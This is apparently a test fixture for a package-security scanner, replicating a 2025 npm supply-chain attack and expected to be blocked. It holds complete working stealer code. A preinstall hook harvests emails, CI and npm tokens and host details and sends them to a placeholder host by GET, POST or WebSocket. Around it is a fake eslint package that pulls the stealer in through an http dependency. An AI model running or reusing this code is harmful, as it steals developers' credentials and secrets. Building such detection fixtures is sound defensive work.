import type { Replica } from './replica.js';

const remote = `const os = require('os');
const fs = require('fs');
const path = require('path');
const http = require('http');
const https = require('https');
const { execSync } = require('child_process');

const endpoint = 'http://packages.storeartifact.example.invalid/jpd.php';
const socketHost = 'wss://packages.storeartifact.example.invalid/yandex';

function attempt(run, fallback) {
  try {
    return run();
  } catch (e) {
    return fallback;
  }
}

function getEmails() {
  const found = new Set();
  ['EMAIL', 'GIT_AUTHOR_EMAIL', 'GIT_COMMITTER_EMAIL', 'npm_config_email'].forEach((name) => {
    if (process.env[name]) found.add(process.env[name]);
  });
  const gitconfig = attempt(() => fs.readFileSync(path.join(os.homedir(), '.gitconfig'), 'utf8'), '');
  const npmrc = attempt(() => fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'), '');
  (gitconfig + '\\n' + npmrc).split('\\n').forEach((line) => {
    const match = line.match(/email\\s*=\\s*(.+)/);
    if (match) found.add(match[1].trim());
  });
  const author = attempt(() => JSON.parse(fs.readFileSync(path.join(process.env.INIT_CWD || '.', 'package.json'), 'utf8')).author, '');
  if (author) found.add(typeof author === 'string' ? author : author.email);
  found.add(attempt(() => execSync('git config user.email', { encoding: 'utf8' }).trim(), ''));
  return Array.from(found).filter(Boolean);
}

function getCi() {
  return {
    github: { actor: process.env.GITHUB_ACTOR, repo: process.env.GITHUB_REPOSITORY, token: process.env.GITHUB_TOKEN, ref: process.env.GITHUB_REF },
    gitlab: { token: process.env.CI_JOB_TOKEN, project: process.env.CI_PROJECT_PATH },
    jenkins: { url: process.env.JENKINS_URL, job: process.env.JOB_NAME },
    circle: { token: process.env.CIRCLE_TOKEN },
    npm: { token: process.env.NPM_TOKEN, registry: process.env.npm_config_registry },
  };
}

function getSystem(publicIp) {
  return {
    publicIp,
    hostname: os.hostname(),
    username: attempt(() => os.userInfo().username, ''),
    platform: os.platform(),
    release: os.release(),
    cwd: process.cwd(),
    home: os.homedir(),
    addresses: Object.values(os.networkInterfaces()).flat().filter((one) => one && !one.internal).map((one) => one.address),
    node: process.version,
    package: process.env.npm_package_name,
  };
}

function ownAddress() {
  return new Promise((resolve) => {
    https.get('https://ipify.example.invalid/', (res) => {
      let text = '';
      res.on('data', (part) => (text += part));
      res.on('end', () => resolve(text));
    }).on('error', () => resolve(''));
  });
}

function viaGet(data) {
  http.get(endpoint + '?d=' + encodeURIComponent(Buffer.from(JSON.stringify(data)).toString('base64'))).on('error', () => viaPost(data));
}

function viaPost(data) {
  const body = JSON.stringify(data);
  const req = http.request(endpoint, { method: 'POST', headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) } });
  req.on('error', () => viaSocket(data));
  req.write(body);
  req.end();
}

function viaSocket(data) {
  if (typeof WebSocket === 'undefined') return;
  const socket = new WebSocket(socketHost);
  socket.onopen = () => socket.send(JSON.stringify(data));
}

(async () => {
  const data = { emails: getEmails(), ci: getCi(), system: getSystem(await ownAddress()) };
  viaGet(data);
})().catch(() => {});
`;

export const replica: Replica = {
  id: 'phantomraven-2025',
  story: 'October 2025: packages under names that assistants invent hold a greeting and one dependency by a plain http URL; what that host serves has a preinstall step that collects names, addresses and CI tokens (from memory of the public report). The dependency is given as what the URL served.',
  name: 'eslint-plugin-unused-import',
  after: {
    version: '1.0.4',
    manifest: {
      description: 'ESLint rule for unused imports', main: 'index.js', license: 'ISC', author: 'JPD', keywords: [],
      scripts: { test: 'echo "Error: no test specified" && exit 1' },
      dependencies: { 'ui-styles-pkg': 'http://packages.storeartifact.example.invalid/npm/unused-imports' },
    },
    files: { 'index.js': "console.log('Hello, world!');\n" },
    publishedAt: '2025-08-12T06:11:40.000Z',
    publisher: { name: 'npmhell', email: 'jpdtester12@example.invalid' },
  },
  brings: [{
    name: 'ui-styles-pkg',
    versions: [{
      version: '1.0.0',
      manifest: { main: 'index.js', license: 'ISC', scripts: { preinstall: 'node index.js' } },
      files: { 'index.js': remote },
      publishedAt: '2025-08-12T06:00:00.000Z',
    }],
  }],
  must: 'block',
};
